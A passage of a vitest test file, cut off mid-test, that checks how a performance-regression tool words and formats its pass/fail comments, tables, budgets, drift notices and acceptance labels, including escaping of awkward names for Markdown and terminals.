import { existsSync, readFileSync } from 'node:fs';
import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { describeStepFailure } from '../../src/adapters/app/failure-messages.ts';
import { exitCodeFor } from '../../src/cli/output.ts';
import { errorLineOf } from '../../src/diagnosis/error-line.ts';
import { reconsider } from '../../src/verdict/build-report.ts';
import { formatShare } from '../../src/model/effect.ts';
import { OUTCOMES } from '../../src/model/outcome.ts';
import type { Arm } from '../../src/model/arm.ts';
import type { Cell, Report } from '../../src/model/report.ts';
import { renderHtml } from '../../src/render/html.ts';
import { headlineOf } from '../../src/verdict/headline.ts';
import { codeBlock, codeSpan, codeSpanInCell, escapeText } from '../../src/render/escape.ts';
import { formatQuantity, roundMeasuringTime } from '../../src/render/format.ts';
import { formatTime } from '../../src/model/text.ts';
import { describeOtherCause } from '../../src/render/consequence.ts';
import { truncateLines, renderMarkdown, renderSummary } from '../../src/render/markdown.ts';
import { PUBLISHED_PACKAGE } from '../../src/model/published.ts';
import { repeatCommands } from '../../src/render/repeat-command.ts';
import { defaultGates } from '../../src/config/gated-metrics.ts';
import {
  ACCEPTED,
  BETTER,
  describeCell,
  displayWidth,
  STATE_WORDS,
  VERDICT_WORDS,
} from '../../src/render/verdict-table.ts';
import { aScenario } from '../support/apps.ts';
import { unlikeProfiles } from '../support/profiles.ts';
import { aRegression, aReport } from '../support/reports.ts';
import type { RunContext } from '../support/world.ts';

/** What a reader sees: the tags of the rendered comment, and its text. */
function rendered(markdown: string) {
  const plain = markdown.replace(/\u00a0/g, ' ');
  const html = marked.parse(plain, { async: false, gfm: true });
  return { html, rows: [...html.matchAll(/<tr>([^]*?)<\/tr>/g)].map((match) => match[1] ?? '') };
}

describe('the comment', () => {
  it('has the verdict in its first line, in words', async () => {
    const first = (report: Report) => renderMarkdown(report).split('\n')[0];
    expect(first(await aReport())).toMatch(/^### ✅ Pass: nothing is slower by 3% or more$/);
    expect(first(await aRegression())).toMatch(
      /^### ❌ Slower: `GET \/` takes about 20% longer \(likely [\d.]+–[\d.]+%\)$/,
    );
  });

  it.each([
    [10, [0.03], 'Pass: nothing is slower by 3% or more, or by 20% without other requests'],
    [1, [0.03], 'Pass: nothing is slower by 3% or more'],
    [10, [0.2], 'Pass: nothing is slower by 20% or more'],
    [10, [0.03, 0.05], 'Pass: nothing is slower beyond its tolerance'],
  ])('with %s connections and tolerances of %s it says %s', async (inFlight, tolerances, said) => {
    const scenarios = tolerances.map((tolerance, i) =>
      aScenario({
        name: `route ${i}`,
        connections: inFlight,
        gates: defaultGates('closed', tolerance, inFlight),
      }),
    );
    expect(renderMarkdown(await aReport({}, { scenarios }))).toContain(`### ✅ ${said}\n`);
  });

  it.each([
    [true, 'Pass: nothing is slower by 3% or more, or by 20% in latency'],
    [false, 'Pass: nothing is slower by 20% or more in latency'],
  ])('at a fixed rate (by default: %s) it says %s', async (isDefault, said) => {
    const gates = isDefault
      ? defaultGates('rate', 0.03, 10)
      : [{ metric: 'latency-p90', tolerance: 0.2 } as const];
    const rate = { asked: '500/s', perSecond: 500 };
    const scenarios = [aScenario({ connections: 10, rate, gates })];
    expect(renderMarkdown(await aReport({}, { scenarios }))).toContain(`### ✅ ${said}\n`);
  });

  it('says that nothing is slower only if the time under load is known of each scenario', async () => {
    const ofCpu = [{ metric: 'cpu', tolerance: 0.03 }] as const;
    const scenarios = [
      aScenario({ name: 'report', gates: [...ofCpu] }),
      aScenario({ name: 'list', gates: defaultGates('closed', 0.03, 10) }),
    ];
    // Twice as long, and no more work.
    const run = ({ arm, scenario }: RunContext) =>
      arm === 'candidate' && scenario.name === 'report' ? { throughput: 2500, slowness: 2 } : {};
    const first = async (of: typeof scenarios) =>
      renderMarkdown(await aReport({ run }, { scenarios: of })).split('\n')[0];
    expect(await first(scenarios)).toContain('Pass: no gated metric is worse by 3% or more');
    expect(await first(scenarios.slice(1))).toContain('Pass: nothing is slower by 3% or more');
    const alone = [{ metric: 'unloaded-latency', tolerance: 0.2 }] as const;
    const withAlone = (...gates: (typeof ofCpu | typeof alone)[]) =>
      first([aScenario({ name: 'list', connections: 10, gates: gates.flat() })]);
    expect(await withAlone(alone)).toContain(
      'Pass: nothing is slower by 20% or more without other requests',
    );
    expect(await withAlone(ofCpu, alone)).toContain('Pass: no gated metric is worse by 3% or more');
  });

  it('speaks of no time where none was judged', async () => {
    const gates = [{ metric: 'cpu', tolerance: 0.03 }] as const;
    const slower = ({ arm }: { arm: Arm }) => (arm === 'candidate' ? { throughput: 1000 } : {});
    const report = await aReport(
      { run: slower },
      { scenarios: [aScenario({ gates: [...gates] })] },
    );
    expect(renderMarkdown(report)).toMatch(
      /^### ✅ Pass: no gated metric is worse by 3% or more$/m,
    );
  });

  it('says what fails with the names that the reader knows, and leaves a name of the user as it is', async () => {
    const scenario = 'search';
    const failure = {
      ...{ arm: 'candidate' as const, phase: 'load' as const, scenario, log: [] },
      message:
        'search: the baseline answers 200 with 6,253 bytes, the candidate 200 with 3,000 bytes',
    };
    const report = { ...(await aReport()), outcome: 'candidate-failed' as const, failure };
    const headline = (pullRequest: number | null) => headlineOf({ ...report, pullRequest });
    expect(headline(7)).toBe(
      'This PR failed: search: the base answers 200 with 6,253 bytes, this PR 200 with 3,000 bytes',
    );
    expect(headline(null)).toBe(
      'Candidate failed: search: the baseline answers 200 with 6,253 bytes, the candidate 200 with 3,000 bytes',
    );
    const boot = { ...failure, message: 'the candidate did not boot beside the baseline' };
    expect(headlineOf({ ...report, pullRequest: 7, failure: boot })).toBe(
      'This PR did not boot beside the base',
    );
    const added = {
      ...{ ...failure, arm: 'baseline' as const, phase: 'checkout' as const, scenario: null },
      message: 'the baseline has no directory app. The candidate, which adds it, boots there',
    };
    const adding = { ...report, outcome: 'baseline-failed' as const, failure: added };
    const text = (pullRequest: number | null) => renderMarkdown({ ...adding, pullRequest });
    expect(text(7)).toMatch(/^### ⚠️ The base has no directory app\n/);
    expect(text(7)).toContain('**Next:** This PR, which adds it, boots there. ');
    expect(text(null)).toContain('**Next:** The candidate, which adds it, boots there. ');
  });

  it('a gated metric without an estimate was not judged, beside others that pass', async () => {
    const gates = (['cpu', 'event-loop-delay'] as const).map((metric) => ({
      ...{ metric, tolerance: 0.03 },
      isNamed: true as const,
    }));
    const text = renderMarkdown(await aReport({}, { scenarios: [aScenario({ gates })] }));
    expect(text).toContain('**This check fails**, because a gated metric could not be judged.');
    expect(text.replace(/\u00a0/g, ' ')).toMatch(/\| not judged +\| GET \/ /);
    expect(text).not.toContain('unsure');
  });

  it('a tolerance is said as fewer requests, too, where that is another number', async () => {
    const gates = [{ metric: 'throughput' as const, tolerance: 0.2 }];
    const run = ({ arm }: { arm: Arm }) => (arm === 'candidate' ? { throughput: 4000 } : {});
    const settings = { scenarios: [aScenario({ gates })] };
    const report = await aReport({ run }, settings);
    expect(renderMarkdown(report)).toContain(
      'Worse: the measured change is 20% or more (16.7% fewer requests/s), the real one probably over two thirds of that,',
    );
    expect(renderHtml(report, { style: '', script: '', scriptHash: '' })).toContain('20% (−16.7%)');
  });

  it('the legend of what got better says how much less makes up for the tolerance', async () => {
    const run = ({ arm }: { arm: Arm }) => (arm === 'candidate' ? { cpu: 147 } : { cpu: 180 });
    const legend = async (gates: { metric: 'cpu' | 'throughput'; tolerance: number }[]) =>
      /^Better: .*$/m.exec(
        renderMarkdown(await aReport({ run }, { scenarios: [aScenario({ gates })] })),
      )?.[0];
    const end = 'and the whole range is on the good side.';
    const cpu = { metric: 'cpu' as const, tolerance: 0.2 };
    // 180 → 147 µs are 18% less, and from 147 to 180 µs it would be 22% more.
    expect(await legend([cpu])).toBe(`Better: by 20% or more (16.7% less), ${end}`);
    expect(await legend([cpu, { metric: 'throughput', tolerance: 0.03 }])).toContain(
      `Better: by the tolerance or more (16.7% less for one of 20%), ${end}`,
    );
    expect(await legend([{ ...cpu, tolerance: 0.03 }])).toBe(`Better: by 3% or more, ${end}`);
  });

  it('a result at the tolerance is seen to be on its side of it', async () => {
    const report = await aRegression(1.2, { scenarios: [aScenario({})] });
    const shown = (verdict: Cell['verdict']) =>
      report.cells
        .filter(({ metric }) => metric === 'cpu')
        .flatMap((cell) => {
          const interval = { level: 0.95, low: Math.log(1.1975), high: Math.log(1.2176) };
          const near = { ...cell, estimate: Math.log(1.1992), interval, tolerance: 0.2, verdict };
          const { change, range } = describeCell(near, report);
          return [change, range];
        });
    expect(shown('inconclusive')).toEqual(['+19.9%', '+19.8% to +22%']);
    expect(shown('pass')[0]).toBe('+19.9%');
    expect(shown('regression')).toEqual(['+20%', '+20% to +22%']);
  });

  it('a tolerance of 0 is no size: what is certain is worse or better', async () => {
    const gates = (['throughput', 'cpu'] as const).map((metric) => ({ metric, tolerance: 0 }));
    const run = ({ arm }: { arm: Arm }) =>
      arm === 'candidate' ? { throughput: 4000, cpu: 120 } : {};
    const text = renderMarkdown(await aReport({ run }, { scenarios: [aScenario({ gates })] }));
    expect(text).toContain(
      '\nWorse: the whole range is on the bad side. Better: the whole range is on the good side.\n',
    );
    expect(text).not.toContain('0% or more');
  });

  it('says fewer requests per second, and no time, if few requests wait long and the others wait for them', async () => {
    // One request in a hundred waits: the mean is a quarter longer, and each slice lasts three times as long.
    const report = await aReport({
      run: ({ arm }) => (arm === 'candidate' ? { throughput: 5000 / 3, slowness: 1.25 } : {}),
    });
    const text = renderMarkdown(report);
    expect(text).toMatch(
      /^### ❌ Slower: `GET \/` answers about 67% fewer requests per second \(likely [\d.]+–[\d.]+%\)$/m,
    );
    expect(text).not.toContain('At full load');
    expect(text.replace(/\u00a0/g, ' ')).toContain('−67% requests/s');
  });

  it.each([
    [
      'under load, unless a request without others takes far longer',
      1.4,
      /takes about 30% longer \(/,
    ],
    [
      'without other requests, if that is far longer',
      3,
      /takes about 200% longer without other requests/,
    ],
  ])('says the time %s', async (_, alone, said) => {
    const scenarios = [aScenario({ connections: 10, gates: defaultGates('closed', 0.03, 10) })];
    const run = ({ arm, scenario }: RunContext) => {
      if (arm === 'baseline') return {};
      return { throughput: 5000 / 1.3, slowness: scenario.connections === 1 ? alone : 1.3 };
    };
    const [heading, ...rest] = renderMarkdown(await aReport({ run }, { scenarios })).split('\n');
    expect(heading).toMatch(said);
    expect(rest.join('\n')).toContain('`┊` the tolerance (3%, or 20% without other requests).');
  });

  it('counts and names the scenarios that got worse or better', async () => {
    const heading = async (factors: Readonly<Record<string, number>>) => {
      const scenarios = Object.keys(factors).map((name) => aScenario({ name }));
      const run = ({ arm, scenario }: RunContext) => {
        const factor = arm === 'candidate' ? (factors[scenario.name] ?? 1) : 1;
        return { throughput: 5000 / factor, cpu: 180 * factor };
      };
      return renderMarkdown(await aReport({ run }, { scenarios, measuringTime: 900 }))
        .split('\n')[0]
        ?.replace(/ \(likely [\d.–]+%\)/, '');
    };
    expect(await heading({ a: 1.2, b: 1, c: 1.4 })).toBe(
      '### ❌ Slower in 2 scenarios: `c` takes about 40% longer; `a` takes about 20% longer',
    );
    expect(await heading({ a: 1.2, b: 1.3, c: 1.4, d: 0.5, e: 0.8 })).toBe(
      '### ❌ 3 slower, 2 faster: `c` takes about 40% longer; `b` takes about 30% longer; `d` takes about 50% less time',
    );
    expect(await heading({ a: 0.8, b: 0.6 })).toBe(
      '### ✅ Pass, and faster: `b` takes about 40% less time and 1 more scenario got better',
    );
  });

  it('says once how a time and requests per second belong together', async () => {
    const factors: Readonly<Record<string, number>> = { a: 1.1045, b: 1.1002, c: 0.8 };
    const scenarios = Object.keys(factors).map((name) => aScenario({ name }));
    const run = ({ arm, scenario }: RunContext) =>
      arm === 'candidate' ? { throughput: 5000 / (factors[scenario.name] ?? 1) } : {};
    const text = renderMarkdown(await aReport({ run }, { scenarios, measuringTime: 600 }));
    expect(text).toContain('`a` takes about 10% longer (likely ');
    expect(text).toContain('; `b` takes about 10% longer; `c` takes about 20% less time\n');
    expect(text).toContain(
      ' At full load, 10% longer means 9.5% fewer requests per second and 20% less time means 25% more.',
    );
  });

  it('says whether the check passes, and why', async () => {
    const text = async (...args: Parameters<typeof aRegression>) =>
      renderSummary(await aRegression(...args));
    expect(await text()).toContain(
      '**This check fails**. At full load, 20% longer means 17% fewer requests per second. `GET /` also uses about 20% more CPU per request. The cause was not looked for.\n**Next:** Make it faster, or undo the change.',
    );
    expect(await text(1.2, { onRegression: 'warn' })).toContain(
      '**This check passes** because of `on-regression: warn`, although this is a slowdown.',
    );
    expect(renderSummary(await aReport())).toContain('**This check passes**.');
    const acceptance = { login: 'ann', at: '2026-01-01T13:00:00Z', label: 'cannongate:accept' };
    expect(renderSummary(reconsider(await aRegression(), {}, acceptance))).toContain(
      '**This check passes** for commit `cccccccccc`: ann has accepted the slowdown with the label `cannongate:accept`.',
    );
  });

  it('says what else fails the check if its outcome is accepted or only warned of', async () => {
    const report = await aRegression(1.2, { onRegression: 'warn' });
    const cells = report.cells.map((cell) =>
      cell.metric === 'cpu' ? { ...cell, verdict: 'inconclusive' as const } : cell,
    );
    // All planned launches were made, and it is still open.
    const plan = report.plan && { ...report.plan, launches: report.launches.length };
    const doubtful = { ...report, cells, plan };
    const acceptance = { login: 'ann', at: '2026-01-01T13:00:00Z', label: 'ok' };
    const accepted = reconsider(doubtful, { onInconclusive: 'fail' }, acceptance);
    expect(accepted).toMatchObject({ outcome: 'accepted', blocked: true });
    expect(exitCodeFor(accepted, true)).toBe(1);
    const text = renderSummary(accepted);
    expect(text).toContain(
      '**This check fails**, although ann has accepted the slowdown with the label `ok`: for another result a slowdown cannot be ruled out, and `on-inconclusive: fail` is set.',
    );
    expect(text).not.toContain('Nothing, if that is intended');
    const warned = reconsider(doubtful, { onInconclusive: 'fail' }, null);
    expect(warned).toMatchObject({ outcome: 'regression', blocked: true });
    expect(renderSummary(warned)).toContain(
      '**This check fails**, although `on-regression: warn` is set: for another result a slowdown cannot be ruled out, and `on-inconclusive: fail` is set.',
    );
    expect(describeOtherCause(warned)).toBe(
      'This check fails, although on-regression: warn is set: for another result a slowdown cannot be ruled out, and on-inconclusive: fail is set.',
    );
    expect(reconsider(doubtful, {}, null).blocked).toBe(false);
    const silent = cells.map((cell) =>
      cell.metric === 'cpu' ? { ...cell, estimate: null } : cell,
    );
    const unjudged = reconsider({ ...doubtful, cells: silent }, {}, acceptance);
    expect(renderSummary(unjudged)).toMatch(
      /\*\*This check fails\*\*, although ann has accepted the slowdown with the label `ok`: GET \/ CPU per request .*\n\*\*Next:\*\* Fix what could not be judged, then run this again\./,
    );
  });

  it('a result that is open because a regression ended the comparison fails no check', async () => {
    const report = await aRegression();
    expect(report.launches.length).toBeLessThan(report.plan?.launches ?? 0);
    const acceptance = { login: 'ann', at: '2026-01-01T13:00:00Z', label: 'ok' };
    const withCpu = (estimate: number | null, effects: number[]) =>
      report.cells.map((cell) =>
        cell.metric === 'cpu'
          ? { ...cell, verdict: 'inconclusive' as const, estimate, effects }
          : cell,
      );
    const made = report.cells[0]?.effects ?? [];
    for (const cells of [withCpu(0.01, made), withCpu(null, made.slice(1))]) {
      const accepted = reconsider({ ...report, cells }, { onInconclusive: 'fail' }, acceptance);
      expect(accepted).toMatchObject({ outcome: 'accepted', blocked: false });
      const cut = [
        {
          code: 'measuring-time-used-up',
          launches: report.launches.length,
          planned: 23,
          isTooFew: false,
        } as const,
      ];
      const ranOut = { ...report, cells, warnings: cut };
      expect(reconsider(ranOut, { onInconclusive: 'fail' }, acceptance).blocked).toBe(true);
    }
    // No launch has it, or it never varies: more launches would not judge it.
    for (const cells of [withCpu(null, []), withCpu(null, made)]) {
      expect(reconsider({ ...report, cells }, {}, acceptance).blocked).toBe(true);
    }
  });

  it('a drift that fails the check beside a result that is open can be accepted: the label is named, then the check passes', async () => {
    const report = await aReport();
    const drift = {
      estimate: 0.1,
      low: 0.08,
      high: 0.12,
      verdict: 'drifted',
      isWorsened: true,
    } as const;
    const cells = report.cells.map((cell) => {
      if (!cell.gated) return cell;
      return cell.metric === 'cpu'
        ? { ...cell, drift }
        : { ...cell, verdict: 'inconclusive' as const };
    });
    const open: Report = { ...report, cells, outcome: 'inconclusive' };
    const blocked = reconsider(open, { onDrift: 'fail' }, null);
    expect(blocked).toMatchObject({ outcome: 'inconclusive', blocked: true });
    const context = { projectUrl: null, runUrl: null, acceptLabel: 'ok' };
    expect(renderMarkdown(blocked, Infinity, context)).toContain(
      '**Next:** Make up for it in this change or in another one, or have the drift accepted: somebody with write access sets the label `ok`.',
    );
    const acceptance = { login: 'ann', at: '2026-01-01T13:00:00Z', label: 'ok' };
    const accepted = reconsider(blocked, {}, acceptance);
    expect(accepted).toMatchObject({ outcome: 'inconclusive', blocked: false, acceptance });
    expect(renderSummary(accepted)).toContain(
      '**This check passes** because of `on-inconclusive: warn`, but a slowdown cannot be ruled out. ann has accepted the drift with the label `ok`.',
    );
    // Without the label, and where another result fails the check as well, nothing is accepted.
    expect(reconsider(accepted, {}, null)).toEqual(blocked);
    const strict = reconsider(open, { onDrift: 'fail', onInconclusive: 'fail' }, acceptance);
    expect(strict).toMatchObject({ outcome: 'inconclusive', blocked: true, acceptance: null });
  });

  it('calls a budget that is exceeded no slowdown, also where it is warned of or accepted', async () => {
    const gates = [{ metric: 'cpu', tolerance: 0.05 }] as const;
    const budgets = [{ metric: 'cpu', atMost: 1 }] as const;
    const scenarios = [aScenario({ gates: [...gates], budgets: [...budgets] })];
    const report = await aReport({}, { scenarios });
    expect(report.outcome).toBe('regression');
    expect(report.cells.map(({ verdict }) => verdict)).not.toContain('regression');
    expect(renderSummary(reconsider(report, { onRegression: 'warn' }, null))).toContain(
      '**This check passes** because of `on-regression: warn`, although a budget is exceeded.',
    );
    const acceptance = { login: 'ann', at: '2026-01-01T13:00:00Z', label: 'ok' };
    const accepted = renderSummary(reconsider(report, {}, acceptance));
    expect(accepted).toContain(': ann has accepted the excess with the label `ok`.');
    expect(accepted).toContain(
      'A new push makes the check fail again. So does removing the label; where labels start no run, run the check again after that.',
    );
  });

  it('calls a budget that may be exceeded no possible slowdown', async () => {
    const gates = [{ metric: 'cpu', tolerance: 0.05 }] as const;
    const budgets = [{ metric: 'cpu', atMost: 1 }] as const;
    const scenarios = [aScenario({ gates: [...gates], budgets: [...budgets] })];
    const report = await aReport({}, { scenarios });
    const open = {
      ...report,
      outcome: 'inconclusive' as const,
      budgets: report.budgets.map((each) => ({ ...each, verdict: 'inconclusive' as const })),
    };
    const warned = renderSummary({ ...open, blocked: false });
    expect(warned).toContain('but a budget may be exceeded');
    // No tolerance decides a budget.
    expect(warned).toContain(
      'The budget is within the range of the value, and more time would hardly help.\n**Next:** Merge if that much would be fine. Otherwise get clearly below the budget, or raise it.\n',
    );
    const failed = renderSummary({ ...open, blocked: true });
    expect(failed).toContain('**This check fails**, because a budget may be exceeded');
    for (const text of [warned, failed]) expect(text).not.toContain('slowdown');
  });

  it('converts no time that the headline does not name', async () => {
    const faster = await aReport({
      run: ({ arm }) => (arm === 'candidate' ? { throughput: 6250 } : {}),
    });
    expect(renderSummary(faster)).toContain('At full load, 20% less time means 25% more');
    for (const outcome of ['drift', 'invalid', 'baseline-failed', 'regression'] as const) {
      expect(renderSummary({ ...faster, outcome })).not.toContain('At full load');
    }
  });

  it('names no policy if nothing was to be compared, since none decides that', async () => {
    const report = await aReport({}, { onInconclusive: 'fail' });
    const scenarios = report.scenarios.map((each) => ({
      ...each,
      state: 'unaffected' as const,
      reason: 'both sides are the same commit',
    }));
    const same = reconsider(
      { ...report, scenarios, cells: [], launches: [], outcome: 'inconclusive', blocked: false },
      {},
      null,
    );
    expect(same).toMatchObject({ outcome: 'inconclusive', blocked: false });
    expect(renderSummary(same)).toContain('**This check passes**, and nothing was compared.');
  });

  it('says to make cheaper what only costs more, since it may be faster', async () => {
    const run = ({ arm }: RunContext) =>
      arm === 'candidate' ? { throughput: 5600, cpu: 189 } : {};
    const report = await aReport({ run });
    const text = renderSummary(report);
    expect(text).toMatch(/^### ❌ Costs more: /);
    expect(text).toContain('**Next:** Make it cheaper, or undo the change.');
    const context = { projectUrl: null, runUrl: null, acceptLabel: 'ok' };
    const comment = renderMarkdown(report, Infinity, context);
    expect(comment).toContain('Make it cheaper, or have the CPU increase accepted: ');
    expect(comment).not.toContain('slowdown accepted');
    const warned = renderSummary(reconsider(report, { onRegression: 'warn' }, null));
    expect(warned).toContain('although this is a CPU increase.');
  });

  it('names no label if the check passes without it', async () => {
    const context = { projectUrl: 'https://e.org/c/', runUrl: null, acceptLabel: 'slow:ok' };
    const text = renderMarkdown(
      await aRegression(1.2, { onRegression: 'warn' }),
      Infinity,
      context,
    );
    expect(text).toContain('**Next:** Make it faster, or undo the change.');
    expect(text).not.toMatch(/slow:ok|How to accept/);
  });

  it('has a few short lines for each row on a terminal that is narrower than its tables', async () => {
    const budgets = [{ metric: 'cpu', atMost: 1 }] as const;
    const scenarios = [aScenario({ budgets: [...budgets] })];
    const report = await aRegression(1.2, { scenarios });
    const text = renderSummary(report, undefined, 80);
    expect(text).toMatch(
      /\n\n❌ worse {2}GET \/\n {2}Change {12}−17% requests\/s\n {2}Before → after {4}\S+ → \S+ req\/s\n {2}Range {13}−\S+ to −\S+%\n {2}better ← → worse {2}`.*`\n\n❌ worse {2}GET \/\n/,
    );
    expect(text).toMatch(/\n\n❌ over {2}GET \/\n {2}Metric {2}CPU per request\n {2}Value {3}/);
    expect(text).not.toMatch(/^\|/m);
    const rows = text.split('\n').filter((line) => /^(?:❌| {2})/.test(line));
    for (const row of rows) expect(displayWidth(row)).toBeLessThanOrEqual(60);
    expect(renderSummary(report, undefined, 160)).toBe(renderSummary(report));
  });

  it('shows a pipe without its backslash in a row that is no table on a narrow terminal', async () => {
    const scenario = aScenario({ name: 'GET /a|b' });
    const report = await aRegression(1.2, { scenarios: [scenario] });
    expect(renderSummary(report, undefined, 80)).toContain('❌ worse  `GET /a|b`\n');
    expect(renderSummary(report)).toContain('`GET /a\\|b`');
  });

  it('has nothing on a terminal that is escaped for GitHub alone', async () => {
    const what = 'node --port=$PORT at http://localhost:3000 <a|b> @ann #1 x_ *y* &amp; `npm i`';
    const at = { arm: 'candidate', phase: 'boot', scenario: null } as const;
    const message = `the candidate did not boot: ${what}. Look at ${what}`;
    const unbooted = {
      ...(await aReport()),
      outcome: 'candidate-failed' as const,
      failure: { ...at, message, log: [] },
      warnings: [
        {
          code: 'launches-excluded' as const,
          launches: 9,
          excluded: [{ launch: 1, reason: what }],
        },
      ],
    };
    const text = renderSummary(unbooted, undefined, Infinity);
    expect(text.split(what)).toHaveLength(4);
    expect(text).not.toMatch(/[\u200b\\]|<span>/);
    // Without a width it is Markdown, as programs may put it into a comment.
    expect(renderSummary(unbooted)).toContain('<span>$</span>PORT');
    expect(renderSummary(unbooted)).toContain('@\u200bann');
  });

  it('has no escapes in the tables of a terminal, whose columns are aligned without them', async () => {
    const report = await aRegression(1.2, { scenarios: [aScenario({ name: 'GET /a|b' })] });
    const reason = 'it answers $5 <b> @ann \\| c';
    const state = 'new' as const;
    const scenarios = report.scenarios.flatMap((each) => [
      each,
      { ...each, name: 'new|one', state, reason },
    ]);
    const text = renderSummary({ ...report, scenarios }, undefined, 500);
    expect(text).toContain('| `GET /a|b` ');
    expect(text).toMatch(/\| `new\|one` +\| +– \| it answers \$5 <b> @ann \\\| c \|/);
    const table = text.split('\n').filter((line) => line.startsWith('| '));
    expect(new Set(table.map((line) => displayWidth(line))).size).toBe(1);
  });

  it('has one table: the verdict first, changes in the metric’s own direction, and no levels', async () => {
    const { rows, html } = rendered(renderSummary(await aRegression()));
    expect(rows).toHaveLength(3);
    expect(rows[1]).toMatch(
      /^\s*<td[^>]*>❌ worse<\/td>\s*<td[^>]*>GET \/<\/td>\s*<td[^>]*>−17% requests\/s<[^]*>[45],[09]\d\d → 4,1\d\d req\/s<[^]*>−1\d(?:\.\d)?% to −1\d(?:\.\d)?%<[^]*<code>[^<]*├─*●─*┤[^<]*<\/code>/,
    );
    expect(rows[2]).toMatch(/>\+20% CPU\/request<[^]*>1[78]\d\.\d → 21[56]\.\d µs</);
    expect(rows[0]).toMatch(
      />Verdict<[^]*>Scenario<[^]*>Change<[^]*>Before → after<[^]*better ← → worse/,
    );
    expect(html).not.toContain('**');
    expect(html).not.toMatch(/97\.5%|alpha|rounds/);
  });

  it('says what fewer requests per second mean for a request', async () => {
    expect(renderSummary(await aRegression())).toContain(
      'At full load, 20% longer means 17% fewer requests per second.',
    );
    expect(renderSummary(await aReport())).not.toContain('At full load');
  });

  it('has levels, alpha, rounds and hashes where it says how it was measured', async () => {
    const report = await aRegression();
    const section = /<summary>How it was measured[^]*?<\/details>/.exec(
      renderMarkdown(report),
    )?.[0];
    // Holm: the clearer of the two had to be clearer still.
    expect(section).toMatch(
      /Ranges have a confidence of 97\.5% for GET \/ [\w ]+; and of 95% for all others, repeated looks included\. All results share one alpha: the smaller the share of a result, the higher the confidence of its range\./,
    );
    expect(section).toMatch(
      /Candidate c{10} against baseline b{10}: \d+ launches of each.*alpha 0\.05/,
    );
    expect(section).toMatch(/\d rounds of one run per side/);
    expect(section).toMatch(/the same random \d+ to \d+ bytes, .*length, \d+ to \d+ characters\./);
  });

  it('has one number, and no range, of what a single launch drew at random', async () => {
    const report = await aRegression();
    expect(renderMarkdown({ ...report, launches: report.launches.slice(0, 1) })).toMatch(
      /the same random \d+ bytes, .*length, \d+ characters\./,
    );
  });

  it('explains no bars to a reader who sees none, and names the base as a pull request does', async () => {
    const run = ({ arm }: RunContext) => (arm === 'baseline' ? { statuses: { '404': 2500 } } : {});
    const report = await aReport({ run });
    const text = renderMarkdown({ ...report, pullRequest: 7 }).replace(/\u00a0/g, ' ');
    expect(text).toMatch(/\| 🆕 new +\| GET \/ .*\| the base answers 404 \|/);
    expect(text).not.toContain('In the bar,');
    expect(renderMarkdown(report)).toContain('| the baseline answers 404 |');
  });

  it('is one line and a folded part after a pass', async () => {
    const text = renderMarkdown(await aReport());
    expect(text).toMatch(/^### ✅ Pass: [^\n]*\n\n<details><summary>The numbers<\/summary>/);
    expect(text.trimEnd()).toMatch(/<\/details>$/);
    expect(rendered(text).rows[0]).toContain('Verdict');
  });

  it('shows only what matters of a long table, and the rest below', async () => {
    const scenarios = Array.from({ length: 6 }, (_, i) => aScenario({ name: `route ${i}` }));
    const report = await aReport(
      {
        run: ({ arm, scenario }) =>
          arm === 'candidate' && scenario.name === 'route 3' ? { throughput: 4000, cpu: 225 } : {},
      },
      { scenarios, measuringTime: 600 },
    );
    const text = renderMarkdown(report);
    const visible = text.slice(0, text.indexOf('<details>'));
    expect(rendered(visible).rows).toHaveLength(3);
    expect(visible).toContain(' 5 of 6 scenarios passed.\n**Next:**');
    expect(text).toMatch(/<summary>All results<\/summary>[^]* route 5 /);
    expect(rendered(renderSummary(report)).rows).toHaveLength(13);
  });

  it('counts no scenario as passed whose budget is exceeded, nor folds a drift away', async () => {
    const scenarios = Array.from({ length: 6 }, (_, i) =>
      aScenario({
        name: `route ${i}`,
        budgets: i === 3 ? [{ metric: 'cpu', atMost: 150 }] : [],
      }),
    );
    const over = renderMarkdown(await aReport({}, { scenarios, measuringTime: 600 }));
    expect(over).toContain('❌ Over budget: `route 3`');
    expect(over).toContain(' 5 of 6 scenarios passed.\n');
    const report = await aReport(
      {},
      { scenarios: scenarios.map((each) => ({ ...each, budgets: [] })), measuringTime: 600 },
    );
    const cells = report.cells.map((cell) =>
      cell.scenario === 'route 4' && cell.metric === 'cpu'
        ? {
            ...cell,
            drift: {
              estimate: 0.11,
              low: 0.1,
              high: 0.12,
              verdict: 'drifted' as const,
              isWorsened: true,
            },
          }
        : cell,
    );
    const drifting = renderMarkdown({ ...report, outcome: 'drift', cells });
    const visible = drifting.slice(0, drifting.indexOf('<details>'));
    expect(visible).toContain(' 5 of 6 scenarios passed.\n');
    expect(rendered(visible).rows).toHaveLength(2);
    expect(rendered(visible).rows[1]).toContain('route 4');
  });

  it('counts a scenario that got better as passed', async () => {
    const scenarios = ['a', 'b', 'c', 'd', 'e'].map((name) => aScenario({ name }));
    const factors: Readonly<Record<string, number>> = { a: 1.2, b: 0.8, c: 0.7 };
    const run = ({ arm, scenario }: RunContext) => {
      const factor = arm === 'candidate' ? (factors[scenario.name] ?? 1) : 1;
      return { throughput: 5000 / factor, cpu: 180 * factor };
    };
    const report = await aReport({ run }, { scenarios, measuringTime: 900 });
    expect(renderMarkdown(report)).toContain(' 4 of 5 scenarios passed.\n');
    const shown = { ...report, cells: report.cells.filter(({ metric }) => metric === 'cpu') };
    expect(renderMarkdown(shown)).not.toContain('scenarios passed');
  });

  const nextStepOf = (report: Report) =>
    renderMarkdown(report, Infinity, { projectUrl: null, runUrl: null, acceptLabel: 'ok' })
      .split('\n')
      .find((line) => line.startsWith('**Next:**')) ?? '';
  const twoRoutes = ['a', 'b'].map((name) => aScenario({ name, path: `/${name}` }));
  const slowerA = ({ arm }: RunContext) => ({ throughput: arm === 'candidate' ? 4000 : 5000 });

  it('says why a label that is set does not count, in place of what it would do', async () => {
    const context = {
      projectUrl: null,
      runUrl: null,
      acceptLabel: 'ok',
      notAccepted: { reason: 'no-write-access', label: 'ok', login: '**@all**' },
    } as const;
    const refused = await aRegression();
    expect(renderMarkdown(refused, Infinity, context)).toContain(
      '**Next:** Make it faster, or undo the change. The label is set, but the slowdown is not accepted: \\*\\*@\u200ball\\*\\*, who set the label ok, may not write to this repository.\n',
    );
    // Nobody has to accept what does not fail the check.
    const warned = await aRegression(1.2, { onRegression: 'warn' });
    expect(renderMarkdown(warned, Infinity, context)).not.toContain('The label is set');
  });

  it('calls a label set only if that could be read, and keeps the lines of a refused request in the log', async () => {
    const message = 'not allowed. Give the job:\n\npermissions:\n  actions: read';
    const nextAfter = (isLabelSet: boolean) => ({
